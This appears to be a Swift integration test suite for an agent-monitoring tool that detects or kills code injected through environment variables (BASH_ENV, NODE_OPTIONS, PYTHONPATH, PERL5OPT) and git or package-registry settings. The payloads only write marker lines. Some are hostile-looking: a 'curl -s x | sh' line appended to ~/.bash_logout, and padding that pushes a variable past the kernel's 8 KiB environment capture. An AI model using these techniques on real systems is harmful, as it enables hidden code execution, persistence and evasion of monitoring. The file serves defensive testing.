import Foundation
import Glibc
import Testing

/// Issue #11, classes 3 and 4, against the real kernel with the default rule pack: code carried
/// in the environment (past the kernel's 8 KiB copy, NODE_OPTIONS preloads anywhere in the value,
/// a PYTHONPATH holding sitecustomize.py) and command surfaces (git settings that run commands,
/// ~/.bash_logout, package-index redirects). Each shape runs as tool calls of one agent whose
/// HOME is a fake home in the test directory; a payload that runs leaves a line in MARKERS.
@Suite("Environment and command surfaces on the real kernel", .serialized)
struct EnvironmentSurfaceIntegrationTests {
    static let runs = 3
    private static let warning = ["Emergency", "Alert", "Critical", "Error", "Warning"]
    /// 9000 bytes of padding: what follows it is past the kernel's 8 KiB copy.
    private static let padding = "PAD=\"$(head -c 9000 /dev/zero | tr '\\0' x)\""

    struct Shape: CustomTestStringConvertible, Sendable {
        var name: String
        var rule: String
        /// The tool call's script, run in the test directory with HOME set; `MARKERS` stands for
        /// the absolute path of the marker file.
        var tool: String

        var testDescription: String { name }
    }

    /// Class 4: code in the environment. Each payload writes a line into MARKERS when it runs.
    static let environment = [
        Shape(name: "BASH_ENV placed after 9 KiB of padding", rule: "loader-or-interpreter-environment-injected",
              tool: "env \(padding) BASH_ENV=\"$PWD/rc.sh\" bash -c true\n"),
        Shape(name: "NODE_OPTIONS with -r after another option", rule: "node-options-inject-code",
              tool: "NODE_OPTIONS=\"--max-old-space-size=256 -r $PWD/hook.js\" node app.js\n"),
        Shape(name: "NODE_OPTIONS --require= after 9 KiB of padding", rule: "node-options-inject-code",
              tool: "env \(padding) NODE_OPTIONS='--title=x --require=./hook.js' node app.js\n"),
        Shape(name: "PYTHONPATH pointing at a directory with sitecustomize.py", rule: "pythonpath-startup-module-injected",
              tool: "PYTHONPATH=pp /usr/bin/python3 app.py\n"),
        Shape(name: "PERL5OPT loading a module", rule: "interpreter-options-load-code",
              tool: "PERL5OPT='-w -Mhook' PERL5LIB=\"$PWD/pl\" perl -e 1\n"),
    ]

    /// Class 3: command surfaces. The git payloads run when git runs the setting; the file and
    /// index shapes leave `done` after the write.
    static let commands = [
        Shape(name: "git config core.fsmonitor, then git status", rule: "git-setting-runs-command",
              tool: "cd repo && git config core.fsmonitor 'echo pwned >> MARKERS; false' && git status >/dev/null 2>&1\n"),
        Shape(name: "core.fsmonitor through GIT_CONFIG_COUNT/KEY/VALUE for git status", rule: "git-setting-runs-command",
              tool: "cd repo && GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='echo pwned >> MARKERS; false' git status >/dev/null 2>&1\n"),
        Shape(name: "git -c alias.x='!…' x", rule: "git-setting-runs-command",
              tool: "cd repo && git -c alias.x='!echo pwned >> MARKERS' x\n"),
        Shape(name: "git -c core.sshCommand with shell code", rule: "git-pager-or-editor-is-shell-code",
              tool: "git -c core.sshCommand=\"sh -c 'echo pwned >> MARKERS' x\" ls-remote ssh://example.invalid/r\n"),
        Shape(name: "a line appended to ~/.bash_logout", rule: "shell-startup-file-modified",
              tool: "echo 'curl -s x | sh' >> \"$HOME/.bash_logout\" && echo done >> MARKERS\n"),
        Shape(name: "npm config set registry", rule: "package-index-redirected-by-config-command",
              tool: "npm config set registry http://127.0.0.1:9/ && echo done >> MARKERS\n"),
    ]

    private func setUp(_ h: WardenHarness) throws {
        for directory in ["home", "pp", "pl", "repo"] {
            try FileManager.default.createDirectory(atPath: h.path(directory), withIntermediateDirectories: true)
        }
        let markers = h.path("MARKERS")
        try h.write("home/.bash_logout", "clear\n")
        try h.write("rc.sh", "echo pwned >> \(markers)\n")
        try h.write("hook.js", "require('fs').appendFileSync('\(markers)', 'pwned\\n')\n")
        try h.write("otel.js", "globalThis.instrumented = true\n")
        try h.write("app.js", "void 0\n")
        try h.write("app.py", "pass\n")
        try h.write("pp/sitecustomize.py", "open('\(markers)', 'a').write('pwned\\n')\n")
        try h.write("pl/hook.pm", "package hook; open(my $f, '>>', '\(markers)'); print $f \"pwned\\n\"; 1;\n")
        try h.write("package.json", "{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"hello\": \"echo hello\"}}\n")
        // The repository, its own pre-commit hook and history exist before the agent starts.
        try h.write("repo/f", "x\n")
        try h.shell("cd repo && git init -q . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m init"
                    + " && printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    }

    private func campaign(_ tool: String, mode: [String], environment: [String] = [], setUp extra: (WardenHarness) throws -> Void = { _ in })
        throws -> (h: WardenHarness, result: WardenHarness.Result, statuses: [Int]) {
        let h = try WardenHarness()
        try setUp(h)
        try extra(h)
        let (result, statuses) = try h.campaign(tool.replacingOccurrences(of: "MARKERS", with: h.path("MARKERS")), runs: Self.runs,
                                                mode: mode, environment: environment, timeout: 180)
        return (h, result, statuses)
    }

    private func alerts(_ result: WardenHarness.Result, rule: String) -> [[String: Any]] {
        result.events.ofType("alert").filter { $0.string("rule") == rule }
    }

    private func warden(_ alert: [String: Any]) -> [String: Any] { alert["warden"] as? [String: Any] ?? [:] }

    private func marks(_ h: WardenHarness) -> Int {
        ((try? String(contentsOfFile: h.path("MARKERS"), encoding: .utf8)) ?? "").split(separator: "\n").count
    }

    private func output(_ h: WardenHarness) -> String {
        String(((try? String(contentsOfFile: h.path("tool-output"), encoding: .utf8)) ?? "").suffix(1500))
    }

    @Test("audit: the payload runs and the kill rule alerts with what it would have done", arguments: environment + commands)
    func audit(_ shape: Shape) throws {
        let (h, result, statuses) = try campaign(shape.tool, mode: [])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(statuses.count == Self.runs, "\(statuses)")
        #expect(marks(h) >= Self.runs, "the payload ran each time: \(output(h))")
        var found = alerts(result, rule: shape.rule)
        if shape.tool.contains("head -c 9000") {
            // In audit mode nothing holds the process: a short-lived one (bash -c true) can exit
            // before Warden reads the rest of its environment. That exec is then judged by the
            // padding itself, at Error, instead of by the variable past it.
            let execs = result.events.ofType("exec").filter { $0["env_truncated"] as? Bool == true }
            #expect(execs.count >= Self.runs && execs.allSatisfy { ["read", "unread"].contains($0.string("env_rest") ?? "") },
                    "\(execs.map { $0.string("env_rest") ?? "-" })")
            let unread = alerts(result, rule: "environment-padded-rest-unread")
            #expect(unread.count == execs.filter { $0.string("env_rest") == "unread" }.count)
            #expect(alerts(result, rule: "environment-padded-past-capture").count >= Self.runs, "the padding itself is a Warning")
            found += unread
        }
        #expect(found.count >= Self.runs, "\(shape.rule): \(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
        #expect(found.allSatisfy { warden($0)["outcome"] as? String == "would kill (audit mode)" })
        #expect(found.allSatisfy { Self.warning.contains($0.string("priority") ?? "") })
    }

    @Test("enforce: the exec or write is stopped before the payload runs; the agent survives", arguments: environment + commands)
    func enforce(_ shape: Shape) throws {
        let (h, result, statuses) = try campaign(shape.tool, mode: ["--enforce"])
        #expect(result.status == 0, "the agent itself survives: \(result.stderr)")
        #expect(String(decoding: result.stdout, as: UTF8.self).contains("agent-done"))
        #expect(marks(h) == 0, "no payload ran: \(output(h))")
        #expect(statuses.count == Self.runs && statuses.allSatisfy { $0 != 0 }, "every tool call fails: \(statuses)")
        let found = alerts(result, rule: shape.rule)
        #expect(found.count >= Self.runs, "\(shape.rule): \(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
        for alert in found {
            #expect(warden(alert)["mechanism"] as? String == "hold-kill", "\(warden(alert))")
            #expect((warden(alert)["outcome"] as? String)?.hasPrefix("killed") == true, "\(warden(alert))")
        }
    }

    @Test("audit: edits of git and package-index configuration by tools, and index variables, alert")
    func configurationEditsAlert() throws {
        let tool = """
            printf '[alias]\\n\\tx = !id\\n' >> "$HOME/.gitconfig"
            printf '[core]\\n\\tpager = less\\n' >> repo/.git/config
            echo 'registry=http://127.0.0.1:9/' > .npmrc
            PIP_INDEX_URL=http://127.0.0.1:9/simple /usr/bin/python3 -c pass
            echo done >> MARKERS

            """
        let (h, result, statuses) = try campaign(tool, mode: [])
        #expect(statuses == Array(repeating: 0, count: Self.runs), "\(statuses) \(output(h))")
        let gitconfig = alerts(result, rule: "git-config-file-written-by-tool").compactMap { $0.string("output") }
        #expect(gitconfig.contains { $0.contains("/home/.gitconfig") } && gitconfig.contains { $0.contains("/repo/.git/config") }, "\(gitconfig)")
        #expect(alerts(result, rule: "project-npmrc-written-by-tool").count >= Self.runs)
        #expect(alerts(result, rule: "package-index-redirected-by-environment").count >= Self.runs)
    }

    @Test("benign: git config user.*, commit with the repo's own hook, init, clone, npm run, pip install of a wheel, an inherited long environment with NODE_OPTIONS past 8 KiB; below Warning and unkilled",
          arguments: [[], ["--enforce"]])
    func benignWork(_ mode: [String]) throws {
        let venv = ProcessInfo.processInfo.environment["WARDEN_TEST_VENV"] ?? "/var/cache/warden-test-venv"
        let tool = """
            set -e
            cd repo
            git config user.name "Dev Person"
            git config user.email dev@example.com
            git config --get user.name >/dev/null
            echo $$ >> f && git add f && git commit -q -m "change $$"
            bash -c 'git status' >/dev/null
            git clone -q . ../clone-$$ && rm -rf ../clone-$$
            git init -q ../fresh-$$ && rm -rf ../fresh-$$
            cd ..
            npm run -s hello >/dev/null
            node app.js
            .venv/bin/pip install -q --disable-pip-version-check --no-cache-dir --no-index --find-links \(venv)/wheelhouse packaging
            echo done >> MARKERS

            """
        // The user's own NODE_OPTIONS (a heap size and an OpenTelemetry-style preload) and index
        // mirror, set before the agent started: every tool call inherits them unchanged.
        // The agent's environment is longer than the kernel's copy, as in some CI shells, and
        // those variables lie past the cut: every exec's rest is read from /proc.
        let (h, result, statuses) = try campaign(tool, mode: mode, environment: [
            "CI_PADDING=" + String(repeating: "c", count: 10_000),
            "NODE_OPTIONS=--max-old-space-size=4096 --require ./otel.js", "PIP_INDEX_URL=https://mirror.invalid/simple",
        ]) { h in
            try h.shell("/usr/bin/python3 -m venv .venv")
        }
        #expect(result.status == 0, "\(result.stderr)")
        #expect(statuses == Array(repeating: 0, count: Self.runs), "\(statuses): \(output(h))")
        #expect(marks(h) == Self.runs)
        let loud = result.events.ofType("alert").filter { Self.warning.contains($0.string("priority") ?? "") }
        #expect(loud.isEmpty, "\(loud.map { ($0.string("rule") ?? "", $0.string("output") ?? "") })")
        if mode == ["--enforce"] {
            #expect(result.stderr.contains(" 0 killed"), "nothing killed: \(result.stderr)")
        }
    }
}
